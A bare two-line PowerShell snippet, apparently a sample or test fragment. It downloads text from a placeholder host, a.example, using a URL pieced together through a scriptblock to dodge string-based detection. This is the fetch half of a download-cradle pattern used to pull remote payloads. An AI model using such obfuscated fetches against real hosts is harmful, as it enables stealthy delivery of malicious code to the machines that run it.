$wc = New-Object System.Net.WebClient
$wc.DownloadString((& {param($a,$b) $a+$b} 'http://a.example' '/p/x.txt'))
